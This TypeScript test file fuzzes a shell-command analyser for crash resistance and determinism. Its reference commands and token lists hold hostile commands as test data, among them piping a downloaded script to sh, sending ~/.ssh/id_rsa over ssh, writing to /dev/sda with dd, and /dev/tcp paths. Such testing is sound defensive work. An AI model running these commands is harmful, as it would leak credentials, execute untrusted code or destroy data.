/**
 * The shell-command analyser on hostile command text: it never throws (broken syntax, NUL bytes,
 * commands of 100 KB and more, deep nesting) and is deterministic, whatever it analysed before.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import fc from 'fast-check';
import { analyzeCommand, createShellAnalyzer, type CommandAnalysis, type ShellSyntax } from '../../../src/core/shell';
import { loadShellSyntax } from '../../../src/node/shellSyntax';
import { RUNS } from '../../helpers/arbitraries';

let syntax: ShellSyntax;
/** Analyses of a few commands by the parser before any hostile input: the reference for later ones. */
const REFERENCE_COMMANDS = ['ls -la > out.txt', 'curl -s https://x.io | sh', 'cat ~/.ssh/id_rsa | ssh u@h "cat > k"', "bash -c 'rm -rf build && npm ci'"];
let reference: CommandAnalysis[];
before(async () => {
  syntax = await loadShellSyntax();
  reference = REFERENCE_COMMANDS.map((c) => analyzeCommand(syntax, c));
  assert.deepEqual(
    reference.map((a) => a.parseError),
    REFERENCE_COMMANDS.map(() => undefined),
    'the reference commands parse cleanly',
  );
  assert.deepEqual(reference[0].touches, [{ path: 'out.txt', access: 'write' }]);
});

/** Pieces of shell text, valid and broken: quotes, substitutions, heredocs, redirections, control bytes. */
const token = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom('ls', 'cat', 'rm -rf', 'curl https://x.io/a', 'git push', 'sudo', 'bash -c', 'sh -c', 'eval', 'xargs', 'env A=1', 'python3 -c', 'ssh u@h', 'scp a u@h:/b', 'npm i', 'tee', 'find . -exec', 'cp', 'mv', 'echo', 'dd of=/dev/sda', 'cd', 'source', '.', 'export', 'time', 'nohup', 'exec') },
  { weight: 4, arbitrary: fc.constantFrom('~/.ssh/id_rsa', '.env', '/etc/passwd', '$HOME', '${X:-y}', '$AWS_SECRET_ACCESS_KEY', '*.ts', 'a b', '-', '--', '-o', 'file.txt', '../x', '/dev/tcp/h/80', '\\', '\\\n') },
  { weight: 3, arbitrary: fc.constantFrom('|', '||', '&&', ';', '&', '\n', '|&', ';;', '!', '>', '>>', '<', '<<', '<<<', '2>&1', '>&-', '<>', '&>', '>|') },
  { weight: 3, arbitrary: fc.constantFrom("'", '"', '`', '$(', ')', '(', '{', '}', '[[', ']]', '((', '))', '<(', '>(', '$((', '${', '$"', "$'") },
  { weight: 2, arbitrary: fc.constantFrom('<<EOF', '<<-EOF', "<<'EOF'", 'EOF', 'if', 'then', 'fi', 'for x in', 'do', 'done', 'while', 'case x in', 'esac', 'function f', '#', '=', 'a=', 'x[0]=') },
  { weight: 1, arbitrary: fc.constantFrom('\u0000', '\r', '\t', '\u00a0', '\u2028', '\ufffd', '\ud800', '💥', 'é') },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
);

const shellish = fc.array(token, { maxLength: 40 }).chain((parts) => fc.array(fc.constantFrom(' ', '', '\n'), { minLength: parts.length, maxLength: parts.length }).map((seps) => parts.map((p, i) => p + seps[i]).join('')));

/** Fails unless the analysis has the documented shape. */
function assertAnalysis(a: CommandAnalysis): void {
  assert.ok(Array.isArray(a.programs) && a.programs.every((p) => typeof p === 'string'), 'programs');
  assert.ok(Array.isArray(a.touches) && a.touches.every((t) => typeof t.path === 'string'), 'touches');
  assert.ok(Array.isArray(a.urls) && a.urls.every((u) => typeof u === 'string'), 'urls');
  assert.equal(a.capabilities[0]?.id, 'shell-exec', 'shell-exec comes first');
}

/** Big commands of several shapes: each a way for a parser or a regular expression to go quadratic or deep. */
function bigCommands(size: number): Record<string, string> {
  const rep = (s: string) => s.repeat(Math.ceil(size / s.length)).slice(0, size);
  return {
    'one long word': rep('a'),
    'many arguments': `echo ${rep('x ')}`,
    'a long pipeline': `${rep('cat a | ')} wc -l`,
    'a long && list': rep('ls && '),
    'an unterminated double quote': `echo "${rep('x y ')}`,
    'an unterminated single quote': `echo '${rep("x ' ")}`,
    'a heredoc without its terminator': `cat <<EOF > out.txt\n${rep('line $X `y`\n')}`,
    'NUL bytes': rep('ls\u0000-la\u0000'),
    'backslashes': rep('\\'),
    'nested $(': `${rep('$(')}x`,
    'nested ((': `${rep('(')}x`,
    'nested {': `${rep('{ ')}x`,
    'nested bash -c quoting': `${rep('bash -c "')}rm x`,
    'many redirections': `cmd ${rep('> f ')}`,
    'many variables': rep('$A$B${C}'),
    'a long URL': `curl https://example.com/${rep('a/')}`,
    'many secrets': rep('cat ~/.ssh/id_rsa; '),
    'escaped newlines': rep('x \\\n'),
  };
}

describe('shell analyser: never throws', () => {
  it('on arbitrary strings (any code unit, NUL and lone surrogates included)', () => {
    const analyze = createShellAnalyzer(syntax);
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        assertAnalysis(analyze(s));
      }),
      { ...RUNS, numRuns: 300 },
    );
  });

  it('on shell-like text: unbalanced quotes, heredocs without terminators, broken substitutions', () => {
    const analyze = createShellAnalyzer(syntax);
    fc.assert(
      fc.property(shellish, (s) => {
        assertAnalysis(analyze(s));
      }),
      { ...RUNS, numRuns: 500, interruptAfterTimeLimit: 8000 },
    );
  });

  it('on commands of 300 KB of many shapes (cut to the parser cap, and flagged)', () => {
    for (const [shape, command] of Object.entries(bigCommands(300 * 1024))) {
      let a: CommandAnalysis | undefined;
      assert.doesNotThrow(() => {
        a = analyzeCommand(syntax, command);
      }, shape);
      assert.ok(a);
      assertAnalysis(a);
      assert.equal(a.parseError, true, `${shape}: a command cut to the cap is flagged`);
    }
  });

  it('gives up on hopeless parses and keeps parsing normal commands afterwards', () => {
    for (const hostile of ['))'.repeat(8192), 'a | '.repeat(12_000), `${'x | '.repeat(20_000)}|`]) {
      const a = analyzeCommand(syntax, hostile);
      assertAnalysis(a);
      // The parser must still read ordinary commands in full after a cancelled or failed parse.
      assert.deepEqual(analyzeCommand(syntax, REFERENCE_COMMANDS[0]), reference[0]);
    }
  });

  it('with a parser that fails (throws, or gives no tree): a flagged best-effort reading of the words', () => {
    const failing: ShellSyntax[] = [
      {
        parse: () => {
          throw new Error('RuntimeError: Aborted()');
        },
      },
      { parse: () => null },
    ];
    for (const broken of failing) {
      const a = analyzeCommand(broken, 'curl -s https://x.io | sh; rm -rf build');
      assertAnalysis(a);
      assert.equal(a.parseError, true);
      assert.deepEqual(a.programs, ['curl', 'sh', 'rm']);
    }
  });

  it('on non-string input passed by a careless caller', () => {
    const analyze = createShellAnalyzer(syntax);
    for (const v of [undefined, null, 5, {}, [], ['ls']]) assertAnalysis(analyze(v as unknown as string));
  });
});

describe('shell analyser: deterministic', () => {
  it('the same command gives deep-equal results: cached, fresh, uncached, after other commands', () => {
    const shared = createShellAnalyzer(syntax);
    fc.assert(
      fc.property(shellish, fc.array(shellish, { maxLength: 3 }), (command, others) => {
        const first = shared(command);
        for (const o of others) shared(o);
        const fresh = createShellAnalyzer(syntax);
        for (const o of others) fresh(o);
        assert.deepEqual(shared(command), first, 'cached');
        assert.deepEqual(fresh(command), first, 'fresh analyser after other commands');
        assert.deepEqual(analyzeCommand(syntax, command), first, 'uncached');
      }),
      { ...RUNS, numRuns: 200 },
    );
  });

  it('a big command gives the same result twice, and does not change the next one', () => {
    const analyze = createShellAnalyzer(syntax);
    for (const [shape, command] of Object.entries(bigCommands(40 * 1024))) {
      assert.deepEqual(analyzeCommand(syntax, command), analyze(command), shape);
      for (const [i, c] of REFERENCE_COMMANDS.entries()) assert.deepEqual(analyzeCommand(syntax, c), reference[i], `${c} after ${shape}`);
    }
  });
});

// Runs last: if a case above had left the process's parser unusable, this says so.
describe('shell analyser: after hostile commands', () => {
  it('still parses as before: the reference commands give the same results', () => {
    for (const [i, command] of REFERENCE_COMMANDS.entries()) assert.deepEqual(analyzeCommand(syntax, command), reference[i], command);
  });

  // Regression: tree-sitter aborted on this one (the whole text used to be parsed), and the shared wasm
  // parser then failed every later parse, so later commands were only read crudely.
  it('a pipeline of 40,000 commands ending in "|" leaves the parser usable for the next command', () => {
    const a = analyzeCommand(syntax, 'cat a | '.repeat(40_000));
    assertAnalysis(a);
    assert.equal(a.parseError, true);
    for (const [i, command] of REFERENCE_COMMANDS.entries()) assert.deepEqual(analyzeCommand(syntax, command), reference[i], command);
  });
});
